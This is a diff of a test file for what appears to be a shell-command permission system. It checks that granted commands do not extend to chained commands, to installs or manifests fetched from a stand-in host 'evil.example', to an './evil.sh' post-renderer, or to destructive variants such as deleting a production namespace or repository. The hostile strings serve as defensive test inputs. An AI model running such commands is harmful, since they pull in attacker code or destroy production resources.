@@ -40,15 +40,9 @@ test("a grant holds in its workspace only, and in all folders of it", () => {
 test("a prefix covers whole words, never another subcommand, a longer word or a second command", () => {
   const root = workspace();
   const grants = open(newHome());
-  grant("git fetch origin", root, grants);
-  expect(ask("git fetch other main", root, grants).kind).toBe("allow");
-  for (const other of [
-    "git fetchx",
-    "git commit -m x",
-    "git fetch && git commit -m x",
-    "git fetch; rm a",
-    "git fetch > out",
-  ]) {
+  grant("npm install a", root, grants);
+  expect(ask("npm install b", root, grants).kind).toBe("allow");
+  for (const other of ["npm installx", "npm publish", "npm install a && git push", "npm install a; rm a"]) {
     expect([other, ask(other, root, grants).kind]).toEqual([other, "ask"]);
   }
 });
@@ -196,12 +190,14 @@ test("installing what the lockfile names is granted apart from adding packages",
 });
 
 test.each([
-  ["helm upgrade web ./c", "helm upgrade other ./c", "helm upgrade web ./c --post-renderer ./evil.sh"],
-  ["kubectl apply -f k8s/", "kubectl apply -f k8s/", "kubectl apply -f https://evil.example/x"],
   ["npm install -D left-pad", "npm install -D right-pad @types/node", "npm install -D git+https://evil.example/x"],
-  ["gh pr merge 1 --squash", "gh pr merge 2 --squash", "gh pr merge 1 --squash -R other/repo"],
-  ["docker build -t a .", "docker build -t b .", "docker build -t a --output dest=/home/dev ."],
-])("beyond the sandbox a grant names options and places: %s", (command, same, other) => {
+  ["helm upgrade web ./c", "helm upgrade web ./c", "helm upgrade web ./c --post-renderer ./evil.sh"],
+  ["kubectl apply -f k8s/", "kubectl apply -f k8s/", "kubectl apply -f https://evil.example/x"],
+  ["gh pr merge 1 --squash", "gh pr merge 1 --squash", "gh pr merge 1 --squash -R other/repo"],
+  ["docker rm -f web", "docker rm -f web", "docker rm -f db"],
+  ["kubectl delete pod web", "kubectl delete pod web", "kubectl delete ns prod"],
+  ["gh repo delete scratch", "gh repo delete scratch", "gh repo delete prod"],
+])("a grant for the network has options and places, and one for the outside each word: %s", (command, same, other) => {
   const { kind } = granted({}, command);
   expect([kind(command), kind(same), kind(other)]).toEqual(["allow", "allow", "ask"]);
 });
